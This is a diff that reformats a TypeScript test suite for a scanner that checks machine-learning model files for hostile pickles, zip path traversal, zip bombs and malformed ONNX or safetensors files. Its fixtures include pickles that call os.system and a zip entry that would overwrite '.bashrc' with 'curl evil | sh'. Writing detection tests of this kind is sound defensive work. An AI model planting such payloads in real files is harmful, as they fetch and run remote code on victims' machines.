@@ -13,7 +13,16 @@ import { standardFixtures } from '../../../test/fixtures/onnx-models';
 import { scanArtifact, type ScanPolicy } from './artifact-scanner';
 
 const MIB = 1024 * 1024;
-const POLICY: ScanPolicy = { maxZipEntries: 1000, maxZipRatio: 250, maxZipTotalBytes: 64 * MIB, maxZipDepth: 2, maxMemberBytes: 32 * MIB, maxInflateBytes: 256 * MIB, allowedGlobals: [], allowedOnnxDomains: [] };
+const POLICY: ScanPolicy = {
+  maxZipEntries: 1000,
+  maxZipRatio: 250,
+  maxZipTotalBytes: 64 * MIB,
+  maxZipDepth: 2,
+  maxMemberBytes: 32 * MIB,
+  maxInflateBytes: 256 * MIB,
+  allowedGlobals: [],
+  allowedOnnxDomains: [],
+};
 const [osSystem, builtinsExec] = hostilePickles();
 /** Float storage whose first bytes happen to read as a protocol 4 pickle header: storages are data, never unpickled. */
 const storage = Buffer.from([0x80, 0x04, 0x63, 0xff, 0, 0, 0x80, 0x3f]);
@@ -32,9 +41,14 @@ async function scan(files: Record<string, Uint8Array>, policy: Partial<ScanPolic
     await mkdir(dirname(join(directory, path)), { recursive: true });
     await writeFile(join(directory, path), bytes);
   }
-  return scanArtifact(directory, Object.entries(files).map(([path, bytes]) => ({ path, size: bytes.length })), { ...POLICY, ...policy });
+  return scanArtifact(
+    directory,
+    Object.entries(files).map(([path, bytes]) => ({ path, size: bytes.length })),
+    { ...POLICY, ...policy },
+  );
 }
-const brief = (findings: { severity: string; rule: string; file: string; location: string }[]) => findings.map(({ severity, rule, file, location }) => ({ severity, rule, file, location }));
+const brief = (findings: { severity: string; rule: string; file: string; location: string }[]) =>
+  findings.map(({ severity, rule, file, location }) => ({ severity, rule, file, location }));
 
 describe('scanArtifact', () => {
   it('passes benign checkpoints in every container, naming what each file was read as', async () => {
@@ -60,7 +74,16 @@ describe('scanArtifact', () => {
 
   it('finds a hostile pickle inside a PyTorch zip checkpoint, at its entry and opcode', async () => {
     const { findings } = await scan({ 'model.pt': pytorchCheckpointZip(osSystem.bytes, [storage]) });
-    expect(findings).toEqual([expect.objectContaining({ severity: 'CRITICAL', rule: 'dangerous_global', file: 'model.pt', location: 'archive/data.pkl › GLOBAL opcode at byte 0', module: 'os', name: 'system' })]);
+    expect(findings).toEqual([
+      expect.objectContaining({
+        severity: 'CRITICAL',
+        rule: 'dangerous_global',
+        file: 'model.pt',
+        location: 'archive/data.pkl › GLOBAL opcode at byte 0',
+        module: 'os',
+        name: 'system',
+      }),
+    ]);
   });
 
   it('reads every pickle member of a zip, by extension or by first bytes, and nested archives', async () => {
@@ -105,7 +128,10 @@ describe('scanArtifact', () => {
     const objects = npyFile("'|O'", '(1,)', osSystem.bytes);
     const { findings } = await scan({
       // A root-level data.pkl does not make this a torch checkpoint: data/evil.npy is numpy's to load.
-      'prefix.npz': zipArchive([{ name: 'data.pkl', data: stateDictPickle() }, { name: 'data/evil.npy', data: objects }]),
+      'prefix.npz': zipArchive([
+        { name: 'data.pkl', data: stateDictPickle() },
+        { name: 'data/evil.npy', data: objects },
+      ]),
       'dir.npz': zipArchive([{ name: 'evil.npy/', data: objects }]),
     });
     expect(brief(findings)).toEqual([
@@ -133,7 +159,12 @@ describe('scanArtifact', () => {
   });
 
   it('refuses zip entries that would extract outside the directory', async () => {
-    const { findings } = await scan({ 'model.zip': zipArchive([{ name: '../../home/user/.bashrc', data: Buffer.from('curl evil | sh\n') }, { name: '/etc/cron.d/job', data: Buffer.from('x') }]) });
+    const { findings } = await scan({
+      'model.zip': zipArchive([
+        { name: '../../home/user/.bashrc', data: Buffer.from('curl evil | sh\n') },
+        { name: '/etc/cron.d/job', data: Buffer.from('x') },
+      ]),
+    });
     expect(brief(findings)).toEqual([
       { severity: 'CRITICAL', rule: 'zip_path_traversal', file: 'model.zip', location: '../../home/user/.bashrc' },
       { severity: 'CRITICAL', rule: 'zip_path_traversal', file: 'model.zip', location: '/etc/cron.d/job' },
@@ -145,15 +176,29 @@ describe('scanArtifact', () => {
     const bomb = zipArchive([{ name: 'archive/data/0', data: zeros, method: 'deflate' }]);
     expect(bomb.length).toBeLessThan(20_000);
     expect(brief((await scan({ 'bomb.pt': bomb })).findings)).toEqual([{ severity: 'HIGH', rule: 'zip_bomb', file: 'bomb.pt', location: 'archive/data/0' }]);
-    expect(brief((await scan({ 'big.zip': zipArchive([{ name: 'a', data: Buffer.alloc(2 * MIB, 1) }, { name: 'b', data: Buffer.alloc(2 * MIB, 2) }]) }, { maxZipTotalBytes: 3 * MIB })).findings)).toEqual([
-      { severity: 'HIGH', rule: 'zip_bomb', file: 'big.zip', location: '(whole file)' },
-    ]);
+    expect(
+      brief(
+        (
+          await scan(
+            {
+              'big.zip': zipArchive([
+                { name: 'a', data: Buffer.alloc(2 * MIB, 1) },
+                { name: 'b', data: Buffer.alloc(2 * MIB, 2) },
+              ]),
+            },
+            { maxZipTotalBytes: 3 * MIB },
+          )
+        ).findings,
+      ),
+    ).toEqual([{ severity: 'HIGH', rule: 'zip_bomb', file: 'big.zip', location: '(whole file)' }]);
     // Declares 1 KiB but inflates to 8 MiB: caught while inflating, not trusted from the header.
     const liar = zipArchive([{ name: 'data.pkl', data: Buffer.concat([stateDictPickle(), zeros]), method: 'deflate', declaredSize: 1024 }]);
     expect(brief((await scan({ 'liar.pt': liar }, { maxZipRatio: 1e9 })).findings)).toEqual([{ severity: 'HIGH', rule: 'zip_bomb', file: 'liar.pt', location: 'data.pkl' }]);
     let nested = zipArchive([{ name: 'data.pkl', data: stateDictPickle() }]);
     for (let level = 0; level < 3; level++) nested = zipArchive([{ name: `level${level}.zip`, data: nested }]);
-    expect(brief((await scan({ 'deep.zip': nested })).findings)).toEqual([{ severity: 'HIGH', rule: 'zip_nesting', file: 'deep.zip', location: 'level2.zip › level1.zip › level0.zip' }]);
+    expect(brief((await scan({ 'deep.zip': nested })).findings)).toEqual([
+      { severity: 'HIGH', rule: 'zip_nesting', file: 'deep.zip', location: 'level2.zip › level1.zip › level0.zip' },
+    ]);
     expect((await scan({ 'deep.zip': nested }, { maxZipDepth: 3 })).findings).toEqual([]);
   });
 
@@ -162,11 +207,19 @@ describe('scanArtifact', () => {
     const { findings } = await scan({
       'escape/model.onnx': escaping.files[escaping.model],
       'custom/model.onnx': customOperatorInSubgraphModel().files['model.onnx'],
-      'broken.safetensors': safetensorsFile('{"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}', Buffer.alloc(4)),
+      'broken.safetensors': safetensorsFile(
+        '{"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}',
+        Buffer.alloc(4),
+      ),
       'optimizer.bin': Buffer.from('\x80\x02]q\x00(K\x01K\x02K\x03K\x04K\x05\xff', 'latin1'),
     });
     expect(findings.map(({ severity, rule, file }) => `${severity} ${rule} ${file}`).sort()).toEqual(
-      ['CRITICAL external_data_path_traversal escape/model.onnx', 'HIGH custom_operator custom/model.onnx', 'HIGH safetensors_duplicate_key broken.safetensors', 'HIGH pickle_unreadable optimizer.bin'].sort(),
+      [
+        'CRITICAL external_data_path_traversal escape/model.onnx',
+        'HIGH custom_operator custom/model.onnx',
+        'HIGH safetensors_duplicate_key broken.safetensors',
+        'HIGH pickle_unreadable optimizer.bin',
+      ].sort(),
     );
   });
 
@@ -179,9 +232,19 @@ describe('scanArtifact', () => {
 
   it('fails closed on a file it cannot read', async () => {
     await writeFile(join(directory, 'model.pkl'), stateDictPickle());
-    const result = await scanArtifact(directory, [{ path: 'model.pkl', size: 10 }, { path: 'gone.pt', size: 10 }], POLICY);
+    const result = await scanArtifact(
+      directory,
+      [
+        { path: 'model.pkl', size: 10 },
+        { path: 'gone.pt', size: 10 },
+      ],
+      POLICY,
+    );
     expect(brief(result.findings)).toEqual([{ severity: 'HIGH', rule: 'scan_error', file: 'gone.pt', location: '(whole file)' }]);
-    expect(result.files).toEqual([{ path: 'model.pkl', format: 'pickle' }, { path: 'gone.pt', format: 'not scanned' }]);
+    expect(result.files).toEqual([
+      { path: 'model.pkl', format: 'pickle' },
+      { path: 'gone.pt', format: 'not scanned' },
+    ]);
   });
 
   it('refuses to inflate a compressed member larger than the scanner may read', async () => {
